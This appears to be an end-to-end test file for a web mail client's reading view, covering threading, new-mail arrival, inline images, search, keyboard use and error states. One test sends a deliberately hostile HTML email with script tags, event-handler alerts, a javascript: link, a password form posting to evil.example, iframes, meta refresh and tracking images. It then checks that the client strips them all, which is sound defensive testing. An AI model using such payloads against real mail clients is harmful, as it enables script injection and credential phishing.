import assert from 'node:assert/strict';
import { picture, pressUntil } from '../support/page.ts';
import { storyTime } from '../support/patience.ts';
import { folders, list, type MailOffice, openMailOffice, pane, png, row, scopes, textOf } from './page-mail.ts';

describe("reading in the page's Mail view", function () {
  this.timeout(storyTime);
  let office: MailOffice;
  before(async () => {
    office = await openMailOffice();
  });
  after(() => office?.stop());
  afterEach(async () => assert.deepEqual(await office.closeAll(), []));

  it('shows a conversation as a whole, and what is seen is read', async () => {
    const page = await office.open('Megan Bowen');
    const unread = folders(page).getByRole('link', { name: /Inbox/ });
    await unread.getByText('3').waitFor();
    await row(page, /Unread.*Lidia, Alex.*Mark 8 launch deck.*2\s*messages/).click();
    await pane(page).getByRole('heading', { name: 'Mark 8 launch deck' }).waitFor();
    const messages = pane(page).getByRole('article');
    await messages.nth(1).waitFor();
    // The newest is on top; the older one was not read before either.
    assert.match((await messages.first().getAttribute('aria-label')) ?? '', /^Message from Lidia Holloway/);
    await textOf(page, 'Lidia Holloway').getByText('Slides 4 and 7').waitFor();
    await textOf(page, 'Alex Wilber').getByText('by Friday 4pm').waitFor();
    await unread.getByText('1').waitFor();
    assert.equal((await office.find('Megan Bowen', 'Mark 8 launch deck'))?.isRead, true);
    // Once read, the older one is folded away.
    await page.reload();
    const older = pane(page).getByRole('button', { name: /Alex Wilber.*Hi Megan/ });
    assert.equal(await older.getAttribute('aria-expanded'), 'false');
    await older.click();
    await textOf(page, 'Alex Wilber').getByText('by Friday 4pm').waitFor();
  });

  it('shows mail at the moment when it arrives, in the list, in the open conversation, and beside the folder', async () => {
    const page = await office.open('Isaiah Langer');
    await office.send('Adele Vance', 'Isaiah Langer', 'Signs');
    await row(page, /Signs/).click();
    await textOf(page, 'Adele Vance').getByText('Hello').waitFor();
    await office.send('Lee Gu', 'Isaiah Langer', 'Just <b>now</b> & here');
    await row(page, /Unread.*Lee Gu.*Just <b>now<\/b> & here/).waitFor();
    await page.getByRole('status').getByText('New mail from Lee Gu: Just <b>now</b> & here').waitFor();
    const first = await office.find('Adele Vance', 'Signs', 'sentitems');
    await office.graph('Adele Vance', 'POST', `me/messages/${first?.id}/replyAll`, { comment: 'One more thing' });
    await pane(page).getByRole('article').nth(1).waitFor();
    await textOf(page, 'Adele Vance').first().getByText('One more thing').waitFor();
    // Own folders stand below, each in the one that it is in.
    const { id } = await office.graph<{ id: string }>('Isaiah Langer', 'POST', 'me/mailFolders', {
      displayName: 'Projects',
    });
    await office.graph('Isaiah Langer', 'POST', `me/mailFolders/${id}/childFolders`, { displayName: 'Mark <8>' });
    await folders(page).getByRole('link', { name: 'Mark <8>' }).click();
    await page.getByText('This folder is empty').waitFor();
  });

  it('shows hostile mail without letting any of it run, and loads no picture before it is asked', async () => {
    const asked: string[] = [];
    const html = `<html><head><style>@import url(https://evil.example/a.css); body{display:none} .x{background:url(https://evil.example/b.png)} p{color:#333}</style></head>
      <body onload="alert(1)" background="https://evil.example/c.png"><p class="x" onclick="alert(2)" style="position:fixed;background-image:url('https://evil.example/d.png')">Read me</p>
      <img src="https://evil.example/e.png" alt="Chart"><img src="https://evil.example/e.png" srcset="https://evil.example/f.png 2x" onerror="alert(3)">
      <script>alert(4)</script><svg><script>alert(5)</script></svg><a href="javascript:alert(6)">Press</a><a href="https://good.example/">Good</a>
      <form action="https://evil.example/g"><input name="password"><button>Go</button></form><iframe src="https://evil.example/h"></iframe>
      <meta http-equiv="refresh" content="0;url=https://evil.example/i"><base href="https://evil.example/"><video poster="https://evil.example/j.png" src="https://evil.example/k"></video></body></html>`;
    await office.send('Joni Sherman', 'Grady Archie', 'Hostile', { body: { contentType: 'html', content: html } });
    const page = await office.open('Grady Archie');
    page.on('dialog', (dialog) => {
      asked.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.route(/\.example/, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ contentType: 'image/png', body: Buffer.from(png, 'base64') });
    });
    await row(page, /Hostile/).click();
    const inside = textOf(page, 'Joni Sherman');
    await inside.getByText('Read me').click();
    await inside.getByText('Press').click();
    await inside.getByText('Chart').waitFor();
    assert.equal(await inside.locator('img').count(), 0);
    assert.equal(
      await inside.locator('script, form, input, button, iframe, video, meta[http-equiv=refresh], base').count(),
      0,
    );
    assert.equal(await inside.locator('[onclick], [onerror], [onload], a[href^="javascript"]').count(), 0);
    assert.equal(await inside.getByRole('link', { name: 'Good' }).getAttribute('rel'), 'noopener noreferrer');
    assert.deepEqual(asked, []);
    await picture(page, 'mail-hostile');
    await pane(page).getByRole('button', { name: 'Load pictures' }).click();
    await inside.getByRole('img', { name: 'Chart' }).waitFor();
    await page.waitForFunction(
      `[...document.querySelector('iframe[title^="Text of"]').contentDocument.images].some((i) => i.naturalWidth === 1)`,
    );
    assert.deepEqual(
      [...new Set(asked)].filter((address) => !/\/[bde]\.png$/.test(address)),
      [],
    );
  });

  it('shows pictures inside of the text, opens attached messages, and follows links to files', async () => {
    await office.send('Adele Vance', 'Patti Fernandez', 'With a picture', {
      body: { contentType: 'html', content: '<p>Look:</p><img src="cid:logo@contoso" alt="Logo">' },
      attachments: [
        {
          '@odata.type': '#microsoft.graph.fileAttachment',
          name: 'logo.png',
          contentType: 'image/png',
          contentBytes: png,
          contentId: 'logo@contoso',
          isInline: true,
        },
      ],
    });
    const page = await office.open('Patti Fernandez');
    await row(page, /With a picture/).click();
    const image = textOf(page, 'Adele Vance').getByRole('img', { name: 'Logo' });
    await image.and(textOf(page, 'Adele Vance').locator('[src^="data:image/png"]')).waitFor();
    assert.equal(await pane(page).getByRole('list', { name: 'Attachments' }).count(), 0);

    const megan = await office.open('Megan Bowen');
    await row(megan, /Contract with Fabrikam/).click();
    await pane(megan)
      .getByRole('button', { name: /Open Our conditions/ })
      .click();
    const dialog = megan.getByRole('dialog');
    await dialog.getByRole('heading', { name: 'Our conditions' }).waitFor();
    await dialog
      .frameLocator('iframe')
      .getByText(/We agree to the conditions/)
      .waitFor();
    await megan.keyboard.press('Escape');
    await row(megan, /Retail feedback/).click();
    await pane(megan)
      .getByRole('button', { name: /Open Layout Guide.pdf/ })
      .click();
    // Nobody has shared the file yet.
    await megan.getByText(/The file that this links to is gone/).waitFor();
    const token = await office.world.tokenFor('Megan Bowen', scopes);
    await fetch(`${office.world.url}/v1.0/me/drive/root:/Layout Guide.pdf:/content`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/pdf' },
      body: '%PDF-1.4',
    });
    await pane(megan)
      .getByRole('button', { name: /Open Layout Guide.pdf/ })
      .click();
    await megan.getByRole('region', { name: 'Details of Layout Guide.pdf' }).waitFor();
  });

  it('finds mail in all folders, tells focused from other, and reads on as the list is scrolled', async () => {
    const page = await office.open('Alex Wilber');
    await row(page, /launch deck/).waitFor();
    assert.equal(await row(page, /What is new in displays/).count(), 0);
    await page.getByRole('tab', { name: 'Other' }).click();
    await row(page, /What is new in displays/).waitFor();
    const search = page.getByRole('searchbox', { name: 'Search mail' });
    await search.fill('subject:launch by Friday');
    await row(page, /launch deck.*Sent Items/, 'Found messages').waitFor();
    await search.fill('xyzzy "unheard of');
    await page.getByText('Nothing found').waitFor();
    await search.fill('');
    await row(page, /What is new in displays/).waitFor();

    for (let from = 0; from < 120; from += 20)
      await office.graph('Miriam Graham', 'POST', '$batch', {
        requests: Array.from({ length: 20 }, (_, i) => ({
          id: String(i),
          method: 'POST',
          url: '/me/mailFolders/archive/messages',
          headers: { 'Content-Type': 'application/json' },
          body: { subject: `Old news ${String(from + i).padStart(3, '0')}` },
        })),
      });
    const miriam = await office.open('Miriam Graham', { at: '#/mail/archive' });
    const rows = list(miriam, 'Archive').getByRole('listitem');
    await rows.nth(49).waitFor();
    assert((await rows.count()) < 120);
    while ((await rows.count()) < 120) {
      await rows.last().scrollIntoViewIfNeeded();
      await miriam.getByRole('region', { name: 'Messages' }).press('End');
    }
  });

  it('is led through by keyboard: list, message, and back', async () => {
    const page = await office.open('Megan Bowen', { viewport: { width: 320, height: 640 } });
    const focused = page.locator(':focus');
    const rows = list(page).getByRole('link');
    await row(page, /Retail feedback/).focus();
    await page.keyboard.press('Home');
    await rows.first().and(focused).waitFor();
    await page.keyboard.press('ArrowDown');
    await rows.nth(1).and(focused).waitFor();
    await row(page, /Retail feedback/).focus();
    await page.keyboard.press('Enter');
    await textOf(page, 'Adele Vance').getByText('The shops like it').waitFor();
    await page.getByRole('heading', { name: 'Retail feedback on the new layout' }).and(focused).waitFor();
    await page.getByRole('button', { name: 'Back to the list' }).focus();
    await page.keyboard.press('Enter');
    await row(page, /Retail feedback/)
      .and(focused)
      .waitFor();
    await page.keyboard.press('Insert');
    await row(page, /Flagged.*Retail feedback/).waitFor();
    await page.keyboard.press('Insert');
    await page.getByRole('combobox', { name: 'Folder' }).selectOption('Sent Items');
    await row(page, /Budget 2027/, 'Sent Items').waitFor();
  });

  it('leads to a message by its address, wherever it lies; and says what is not there, and what went wrong', async () => {
    const message = await office.find('Johanna Lorenz', 'Größe der Verpackung');
    // By an id that ends with the next move: the address gets the one that stays.
    const page = await office.open('Johanna Lorenz', { at: `#/mail/inbox/${message?.id}` });
    await page.waitForURL(/#\/mail\/inbox\/AAk/);
    await textOf(page, 'Henrietta Mueller').getByText('die neuen Maße').waitFor();
    await page.goto(
      `${office.world.url}/?as=${office.world.person('Johanna Lorenz').userPrincipalName}#/mail/inbox/AAkNothing`,
    );
    await page.reload();
    await page.getByText('This message is not here').waitFor();
    office.world.tenant.faults.add([
      { match: { path: '/mailFolders/junkemail/messages' }, kind: 'status', status: 503 },
    ]);
    await folders(page).getByRole('link', { name: 'Junk Email' }).click();
    await page.getByRole('alert').waitFor();
    office.world.tenant.faults.clear();
    await pressUntil(page.getByRole('button', { name: 'Try again' }), page.getByText('This folder is empty'));
    // Somebody else's mail is nobody's business.
    await page.goto(
      `${office.world.url}/?as=${office.world.person('Lee Gu').userPrincipalName}#/mail/inbox/${message?.id}`,
    );
    await page.reload();
    await page.getByText('This message is not here').waitFor();
  });
});
